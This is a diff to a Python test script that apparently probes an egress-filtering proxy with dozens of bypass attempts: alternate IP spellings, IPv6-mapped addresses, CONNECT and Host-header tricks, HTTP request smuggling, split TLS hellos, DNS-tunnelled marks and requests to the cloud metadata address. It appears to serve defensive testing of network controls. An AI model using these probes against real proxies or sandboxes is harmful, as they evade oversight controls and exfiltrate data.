@@ -18,6 +18,7 @@ name, MARK = sys.argv[1], sys.argv[-1]
 PROXY = os.environ.get("PROBE_PROXY", "127.0.0.1:1").rsplit(":", 1)
 PROXY = (PROXY[0], int(PROXY[1]))
 DENIED = "203.0.113.20"
+DENIED_V6 = "2001:db8::20"
 PATIENCE = 3
 
 probes = {}
@@ -49,8 +50,9 @@ def connect(authority, host_header=None):
     sock = tcp(*PROXY)
     sock.sendall(f"CONNECT {authority} HTTP/1.1\r\nHost: {host_header or authority}\r\n\r\n".encode("latin-1"))
     answer = b""
+    # No further: what follows is the server's.
     while b"\r\n\r\n" not in answer:
-        data = sock.recv(65536)
+        data = sock.recv(1)
         if not data:
             raise OSError("closed")
         answer += data
@@ -118,6 +120,47 @@ def address_mapped():
     get(sock, "denied.test")
 
 
+@probe
+def address_v6():
+    sock = socket.socket(socket.AF_INET6)
+    sock.settimeout(PATIENCE)
+    sock.connect((DENIED_V6, 80))
+    get(sock, "denied.test")
+
+
+def by_spelling(spelling):
+    """Spellings that only `inet_aton(3)` takes."""
+    get(tcp(spelling, 80), "denied.test")
+
+
+def absolute_by_spelling(spelling):
+    absolute(f"http://{spelling}/" + MARK, spelling)
+
+
+def connect_by_spelling(spelling):
+    get(connect(spelling + ":80"), "denied.test")
+
+
+SPELLINGS = {
+    "decimal": "3405803796", "hex": "0xcb007114", "octal": "0313.0.0161.024", "short": "203.0.28948",
+    "dotted_hex": "0xcb.0x00.0x71.0x14", "full_stops": "203.0.113.20.",
+}
+for kind, spelling in SPELLINGS.items():
+    if kind != "full_stops":
+        probes["address_" + kind] = lambda spelling=spelling: by_spelling(spelling)
+    probes["absolute_" + kind] = lambda spelling=spelling: absolute_by_spelling(spelling)
+    probes["connect_" + kind] = lambda spelling=spelling: connect_by_spelling(spelling)
+
+
+@probe
+def address_fast_open():
+    sock = socket.socket()
+    request = f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode()
+    sock.sendto(request, 0x20000000, (DENIED, 80))  # MSG_FASTOPEN
+    sock.settimeout(PATIENCE)
+    sock.recv(100)
+
+
 # By another name's SNI or Host.
 
 @probe
@@ -162,6 +205,78 @@ def opaque_bytes_at_the_tls_port():
     sock = tcp("allowed.test", 443)
     sock.sendall(b"\0" + MARK.encode())
     time.sleep(0.3)
+
+
+@probe
+def no_sni_to_a_denied_address():
+    get(tls(tcp(DENIED, 443), None), "allowed.test")
+
+
+@probe
+def tls_at_another_port():
+    get(tls(tcp("denied.test", 8443), "allowed.test"), "allowed.test")
+
+
+@probe
+def host_with_a_port():
+    get(tcp("allowed.test", 80), "denied.test:80")
+
+
+@probe
+def host_twice():
+    get(tcp("allowed.test", 80), "allowed.test", more="Host: denied.test\r\n")
+
+
+@probe
+def host_folded():
+    get(tcp("allowed.test", 80), "allowed.test\r\n denied.test")
+
+
+@probe
+def host_in_the_target():
+    get(tcp("allowed.test", 80), "allowed.test", f"http://denied.test/{MARK}")
+
+
+@probe
+def host_taken_away():
+    get(tcp("allowed.test", 80), "denied.test", more="Connection: host\r\n")
+
+
+@probe
+def no_host():
+    sock = tcp("allowed.test", 80)
+    sock.sendall(f"GET /{MARK} HTTP/1.0\r\n\r\n".encode())
+    sock.recv(100)
+
+
+@probe
+def http_0_9():
+    sock = tcp("allowed.test", 80)
+    sock.sendall(f"GET /{MARK}\r\n\r\n".encode())
+    sock.recv(100)
+
+
+@probe
+def method_in_lower_case():
+    sock = tcp("allowed.test", 80)
+    sock.sendall(f"get /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
+    sock.recv(100)
+
+
+@probe
+def request_in_pieces():
+    sock = tcp("allowed.test", 80)
+    for piece in ("G", "ET /" + MARK, " HTTP/1.1\r\nHost: den", "ied.test\r\n\r\n"):
+        sock.sendall(piece.encode())
+        time.sleep(0.2)
+    sock.recv(100)
+
+
+@probe
+def trace():
+    sock = tcp("allowed.test", 80)
+    sock.sendall(f"TRACE /{MARK} HTTP/1.1\r\nHost: allowed.test\r\n\r\n".encode())
+    sock.recv(100)
 
 
 # By CONNECT.
@@ -212,6 +327,79 @@ def connect_userinfo():
 
 
 @probe
+def connect_and_second_host():
+    sock = connect("allowed.test:80")
+    get(sock, "allowed.test", "/first")
+    get(sock, "denied.test")
+
+
+@probe
+def connect_v6():
+    get(connect(f"[{DENIED_V6}]:80"), "denied.test")
+
+
+@probe
+def connect_mapped():
+    get(connect(f"[::ffff:{DENIED}]:80"), "denied.test")
+
+
+@probe
+def connect_percent():
+    get(connect("denied%2etest:80"), "denied.test")
+
+
+@probe
+def connect_loopback_of_the_host():
+    get(connect("127.0.0.1:80"), "localhost")
+
+
+@probe
+def connect_localhost():
+    get(connect("localhost:80"), "localhost")
+
+
+@probe
+def connect_unspecified():
+    get(connect("0.0.0.0:80"), "localhost")
+
+
+@probe
+def connect_name_of_the_host():
+    get(connect("host.docker.internal:80"), "localhost")
+
+
+@probe
+def connect_ssh():
+    sock = connect("allowed.test:22")
+    sock.recv(100)
+    sock.sendall(MARK.encode())
+
+
+@probe
+def connect_with_bytes_behind_it():
+    sock = tcp(*PROXY)
+    sock.sendall(f"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n"
+                 f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
+    time.sleep(0.5)
+
+
+@probe
+def connect_denied_with_bytes_behind_it():
+    sock = tcp(*PROXY)
+    sock.sendall(f"CONNECT denied.test:80 HTTP/1.1\r\nHost: denied.test:80\r\n\r\n"
+                 f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n".encode())
+    time.sleep(0.5)
+
+
+@probe
+def connect_in_a_tunnel():
+    sock = connect("allowed.test:3128")
+    sock.sendall(b"CONNECT denied.test:80 HTTP/1.1\r\nHost: denied.test:80\r\n\r\n")
+    sock.recv(100)
+    get(sock, "denied.test")
+
+
+@probe
 def connect_smtp():
     sock = connect("denied.test:25")
     sock.recv(100)
@@ -250,6 +438,67 @@ def absolute_punycode():
     absolute("http://xn--bcher-kva.test/" + MARK, "xn--bcher-kva.test")
 
 
+@probe
+def absolute_percent():
+    absolute("http://%64enied.test/" + MARK, "denied.test")
+
+
+@probe
+def absolute_wide_dot():
+    absolute("http://denied\u3002test/".encode().decode("latin-1") + MARK, "denied.test")
+
+
+@probe
+def absolute_backslash():
+    absolute("http://denied.test\\@allowed.test/" + MARK, "denied.test")
+
+
+@probe
+def absolute_v6():
+    absolute(f"http://[{DENIED_V6}]/" + MARK, f"[{DENIED_V6}]")
+
+
+@probe
+def absolute_loopback_of_the_host():
+    absolute("http://127.0.0.1/" + MARK, "127.0.0.1")
+
+
+@probe
+def absolute_loopback_v6_mapped():
+    absolute("http://[::ffff:127.0.0.1]/" + MARK, "localhost")
+
+
+@probe
+def absolute_rebinding():
+    absolute("http://loopback.test/" + MARK, "loopback.test")
+
+
+@probe
+def absolute_metadata():
+    absolute("http://169.254.169.254/" + MARK, "169.254.169.254")
+
+
+@probe
+def absolute_scheme_in_capitals():
+    absolute("HTTP://denied.test/" + MARK, "denied.test")
+
+
+@probe
+def absolute_ftp():
+    absolute("ftp://denied.test:80/" + MARK, "denied.test")
+
+
+@probe
+def origin_form_at_the_proxy():
+    sock = tcp(*PROXY)
+    get(sock, "denied.test", "//denied.test/" + MARK)
+
+
+@probe
+def absolute_to_an_allowed_name_of_a_denied_host():
+    absolute("http://allowed.test/" + MARK, "denied.test")
+
+
 # Later on a connection that began well.
 
 @probe
@@ -281,6 +530,65 @@ def smuggled_request():
     sock.sendall((f"POST /first HTTP/1.1\r\nHost: allowed.test\r\nTransfer-Encoding: xchunked\r\n"
                   f"Content-Length: {len(inner)}\r\n\r\n{inner}").encode())
     time.sleep(0.5)
+
+
+def smuggled(headers):
+    """A second request in the body of the first, for who reads the length of it otherwise."""
+    inner = f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n"
+    body = "0\r\n\r\n" + inner
+    sock = tcp("allowed.test", 80)
+    sock.sendall((f"POST /first HTTP/1.1\r\nHost: allowed.test\r\n"
+                  f"{headers.format(length=len(body))}\r\n\r\n{body}").encode("latin-1"))
+    time.sleep(0.5)
+
+
+for kind, headers in {
+    "both": "Content-Length: {length}\r\nTransfer-Encoding: chunked",
+    "space": "Content-Length: {length}\r\nTransfer-Encoding : chunked",
+    "tab": "Transfer-Encoding:\tchunked, identity\r\nContent-Length: {length}",
+    "twice": "Transfer-Encoding: chunked\r\nTransfer-Encoding: x\r\nContent-Length: {length}",
+    "lengths": "Content-Length: {length}\r\nContent-Length: 5",
+    "line_feed": "X: y\nContent-Length: {length}",
+}.items():
+    probes["smuggled_" + kind] = lambda headers=headers: smuggled(headers)
+
+
+@probe
+def smuggled_in_a_get():
+    inner = f"GET /{MARK} HTTP/1.1\r\nHost: denied.test\r\n\r\n"
+    sock = tcp("allowed.test", 80)
+    sock.sendall((f"GET /first HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 0\r\n\r\n{inner}").encode())
+    time.sleep(0.5)
+
+
+@probe
+def websocket_that_nobody_accepted():
+    sock = tcp("allowed.test", 80)
+    get(sock, "allowed.test", "/first", "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
+        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n")
+    get(sock, "denied.test")
+
+
+@probe
+def upgrade_to_something_made_up():
+    sock = tcp("allowed.test", 80)
+    get(sock, "allowed.test", "/first", "Connection: Upgrade\r\nUpgrade: zz\r\n")
+    get(sock, "denied.test")
+
+
+@probe
+def http2_prior_knowledge_at_the_proxy():
+    sock = connect("allowed.test:80")
+    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + MARK.encode())
+    time.sleep(0.3)
+
+
+@probe
+def http2_by_upgrade():
+    sock = tcp("allowed.test", 80)
+    get(sock, "allowed.test", "/first", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n")
+    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9) + MARK.encode())
+    time.sleep(0.3)
 
 
 @probe
@@ -328,6 +636,48 @@ def hello_encrypted():
     sock.recv(100)
 
 
+@probe
+def hello_in_small_records():
+    whole = hello(MARK + ".test")[5:]
+    sock = tcp("allowed.test", 443)
+    for at in range(0, len(whole), 7):
+        part = whole[at:at + 7]
+        sock.sendall(b"\x16\x03\x01" + struct.pack("!H", len(part)) + part)
+    sock.recv(100)
+
+
+@probe
+def hello_with_two_names():
+    second = MARK.encode() + b".test"
+    sock = tcp("allowed.test", 443)
+    sock.sendall(hello("allowed.test", struct.pack("!HHHBH", 0, len(second) + 5, len(second) + 3, 0, len(second)) + second))
+    sock.recv(100)
+
+
+@probe
+def hello_with_a_dot():
+    sock = tcp("allowed.test", 443)
+    sock.sendall(hello("allowed.test.", struct.pack("!HH", 0xABCD, len(MARK)) + MARK.encode()))
+    sock.recv(100)
+
+
+@probe
+def hello_with_an_address():
+    sock = tcp("allowed.test", 443)
+    sock.sendall(hello(DENIED, struct.pack("!HH", 0xABCD, len(MARK)) + MARK.encode()))
+    sock.recv(100)
+
+
+@probe
+def hello_late():
+    sock = tcp("allowed.test", 443)
+    whole = hello(MARK + ".test")
+    sock.sendall(whole[:5])
+    time.sleep(0.5)
+    sock.sendall(whole[5:])
+    sock.recv(100)
+
+
 # By names that lead elsewhere.
 
 @probe
@@ -359,10 +709,10 @@ def quic_to_an_allowed_name():
     sock.sendto(b"\xc0\0\0\0\x01" + MARK.encode(), ("allowed.test", 443))
 
 
-def ask(kind):
+def ask(kind, name=".denied.test"):
     sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sock.settimeout(PATIENCE)
-    sock.sendto(question(MARK + ".denied.test", kind), ("203.0.113.53", 53))
+    sock.sendto(question(MARK + name, kind), ("203.0.113.53", 53))
     sock.recv(4096)
 
 
@@ -376,6 +726,93 @@ def dns_below_an_allowed_name():
     sock.settimeout(PATIENCE)
     sock.sendto(question(MARK + ".allowed.test", 1), ("203.0.113.53", 53))
     sock.recv(4096)
+
+
+@probe
+def dns_pointer():
+    ask(12, ".in-addr.arpa")
+
+
+@probe
+def dns_pointer_v6():
+    ask(12, ".ip6.arpa")
+
+
+@probe
+def dns_mark_in_an_option():
+    """A query for an allowed name with something else in its EDNS record."""
+    option = struct.pack("!HH", 65001, len(MARK)) + MARK.encode()
+    record = b"\0" + struct.pack("!HHIH", 41, 4096, 0, len(option)) + option
+    query = bytearray(question("allowed.test", 1) + record)
+    query[11] = 1
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.settimeout(PATIENCE)
+    sock.sendto(query, ("203.0.113.53", 53))
+    sock.recv(4096)
+
+
+@probe
+def dns_two_questions():
+    query = bytearray(question("allowed.test", 1) + question(MARK + ".denied.test", 1)[12:])
+    query[5] = 2
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.settimeout(PATIENCE)
+    sock.sendto(query, ("203.0.113.53", 53))
+    sock.recv(4096)
+
+
+@probe
+def dns_update():
+    query = bytearray(question(MARK + ".denied.test", 6))
+    query[2] = 0x28
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.settimeout(PATIENCE)
+    sock.sendto(query, ("203.0.113.53", 53))
+    sock.recv(4096)
+
+
+def datagram(kind, to, family=socket.AF_INET):
+    sock = socket.socket(family, socket.SOCK_DGRAM)
+    if kind == "connected":
+        sock.connect(to)
+        sock.send(MARK.encode())
+    else:
+        sock.sendto(MARK.encode(), to)
+
+
+@probe
+def datagram_to_an_address():
+    datagram("sent", (DENIED, 4433))
+
+
+@probe
+def datagram_connected():
+    datagram("connected", (DENIED, 4433))
+
+
+@probe
+def datagram_mapped():
+    datagram("sent", ("::ffff:" + DENIED, 4433), socket.AF_INET6)
+
+
+@probe
+def datagram_after_an_allowed_one():
+    """A socket that is connected to the resolver, and then sends elsewhere."""
+    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sock.connect(("203.0.113.53", 53))
+    sock.sendto(MARK.encode(), (DENIED, 4433))
+
+
+@probe
+def resolved_and_dialled():
+    """The name from the workload's own resolver, whatever it is given, and a connection to it."""
+    host = "denied.test"
+    for _ in range(2):
+        try:
+            address = socket.getaddrinfo(host, 80, socket.AF_INET)[0][4][0]
+        except OSError:
+            address = "198.18.0.1"
+        get(tcp(address, 80), host)
 
 
 @probe
